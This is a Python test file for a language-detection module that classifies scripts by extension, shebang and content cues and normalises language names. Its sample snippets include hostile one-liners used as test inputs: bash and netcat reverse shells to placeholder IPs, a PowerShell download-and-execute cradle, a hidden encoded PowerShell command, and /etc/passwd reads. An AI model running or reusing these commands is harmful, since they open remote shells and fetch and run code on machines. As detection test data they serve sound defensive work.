"""Language detection: extension, then shebang, then content cues; and user spellings of language names."""
from __future__ import annotations

import pytest
from hypothesis import given, settings, strategies as st

from pipeline.languages import EXTENSIONS, LANGS, UNKNOWN, detect_language, normalise_lang

SNIPPETS = {
    "powershell": [
        "$client = New-Object System.Net.WebClient\n$client.DownloadFile('http://example.com/a', \"$env:TEMP\\a\")\n",
        "IEX (New-Object Net.WebClient).DownloadString('http://example.com/x')",
        "param([string]$Path)\nGet-ChildItem -Path $Path | Where-Object { $_.Length -gt 1kb }\n",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        "$bytes = [System.Convert]::FromBase64String($data)\n$text = [Text.Encoding]::UTF8.GetString($bytes)\n",
    ],
    "batch": [
        "@echo off\nset TARGET=%TEMP%\\x\nif not exist \"%TARGET%\" mkdir \"%TARGET%\"\n",
        "@echo off\npowershell -ExecutionPolicy Bypass -NoProfile -File \"%~dp0setup.ps1\"\n",
        "setlocal enabledelayedexpansion\nfor %%f in (*.log) do del \"%%f\"\ngoto :eof\n",
        "rem cleanup\nset /a n=n+1\n",
    ],
    "vbscript": [
        "Dim shell\nSet shell = CreateObject(\"WScript.Shell\")\nshell.Run \"notepad.exe\", 1, False\n",
        "On Error Resume Next\nSet fso = CreateObject(\"Scripting.FileSystemObject\")\n",
        "Function Twice(n)\n    Twice = n * 2\nEnd Function\nMsgBox Twice(2)\n",
    ],
    "python": [
        "import os\nos.system('id')\n",
        "def main():\n    print('hi')\n\nif __name__ == '__main__':\n    main()\n",
        "from pathlib import Path\nclass A:\n    def run(self):\n        return self.x\n",
        "python3 -c \"import json,sys; print(json.load(sys.stdin))\" < in.json\n",
    ],
    "javascript": [
        "const fs = require('fs');\nfs.writeFileSync('a.txt', 'x');\n",
        "var sh = new ActiveXObject('WScript.Shell');\nsh.Run('calc.exe');\n",
        "var sh = WScript.CreateObject(\"WScript.Shell\");\nvar p = sh.ExpandEnvironmentStrings(\"%APPDATA%\");\n",
        "document.addEventListener('click', (e) => { console.log(e.target); });\n",
        "module.exports = {\n  root: true,\n  env: { node: true },\n};\n",
    ],
    "bash": [
        "for f in *.log; do\n  gzip \"$f\"\ndone\n",
        "if [ -f /etc/passwd ]; then\n  cat /etc/passwd | grep root\nfi\n",
        "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 9001 > /tmp/f\n",
        "cat > /etc/motd <<'EOF'\nhello\nEOF\n",
    ],
}


@pytest.mark.parametrize("lang,text", [(lang, t) for lang, texts in SNIPPETS.items() for t in texts])
def test_content_cues_find_the_language(lang, text):
    assert detect_language(text) == lang


@pytest.mark.parametrize("ext,lang", sorted(EXTENSIONS.items()))
def test_extension_decides_before_content(ext, lang):
    misleading = SNIPPETS["batch" if lang != "batch" else "python"][0]
    assert detect_language(misleading, f"dir/sample{ext}") == lang
    assert detect_language(misleading, f"C:\\Users\\x\\SAMPLE{ext.upper()}") == lang  # Windows path, upper case


def test_unknown_extension_falls_back_to_shebang_then_content():
    assert detect_language("#!/bin/bash\necho hi\n", "payload.txt") == "bash"
    assert detect_language(SNIPPETS["vbscript"][0], "payload.bin") == "vbscript"
    assert detect_language(SNIPPETS["vbscript"][0], "") == "vbscript"


@pytest.mark.parametrize("shebang,lang", [
    ("#!/usr/bin/env python3", "python"), ("#!/usr/bin/python2.7", "python"), ("#!/bin/bash", "bash"),
    ("#!/bin/sh", "bash"), ("#!/usr/bin/env zsh", "bash"), ("#!/usr/bin/env node", "javascript"),
    ("#!/usr/bin/env pwsh", "powershell"), ("#!/usr/bin/env -S python3 -u", "python"),
    ("#! /usr/local/bin/bash -e", "bash"),
])
def test_shebang(shebang, lang):
    assert detect_language(f"{shebang}\nsomething neutral\n") == lang


def test_shebang_beats_content_cues():
    assert detect_language("#!/bin/sh\nimport os\n") == "bash"  # e.g. ImageMagick's `import` command


def test_unrecognised_shebang_uses_content():
    assert detect_language("#!/usr/bin/perl\nimport os\nimport sys\n") == "python"


@pytest.mark.parametrize("text", ["", "hello world, this is plain prose", "echo hi", "\x00\x01\x02binary\xff",
                                  "12345 67890"])
def test_weak_or_no_evidence_is_unknown(text):
    assert detect_language(text) == UNKNOWN


@pytest.mark.parametrize("name,lang", [
    ("ps", "powershell"), ("PS1", "powershell"), ("pwsh", "powershell"), ("PowerShell", "powershell"),
    ("js", "javascript"), ("node", "javascript"), ("JScript", "javascript"), ("py", "python"),
    ("Python3", "python"), ("sh", "bash"), ("shell", "bash"), ("zsh", "bash"), ("bat", "batch"),
    ("cmd", "batch"), (".bat", "batch"), ("vbs", "vbscript"), ("VBScript", "vbscript"), (" vbe ", "vbscript"),
    ("Visual Basic Script", "vbscript"), ("shell-script", "bash"),
])
def test_normalise_lang_aliases(name, lang):
    assert normalise_lang(name) == lang


@pytest.mark.parametrize("name", ["cobol", "", None, "perl", "ruby", "html"])
def test_normalise_lang_unknown_spellings(name):
    assert normalise_lang(name) == UNKNOWN


def test_canonical_names_are_fixed_points():
    for lang in LANGS + (UNKNOWN,):
        assert normalise_lang(lang) == lang


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=400), st.one_of(st.none(), st.text(max_size=40)))
def test_detection_never_raises_and_is_deterministic(text, filename):
    lang = detect_language(text, filename)
    assert lang in LANGS + (UNKNOWN,)
    assert detect_language(text, filename) == lang


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=30))
def test_normalise_lang_is_idempotent(name):
    assert normalise_lang(normalise_lang(name)) == normalise_lang(name) in LANGS + (UNKNOWN,)
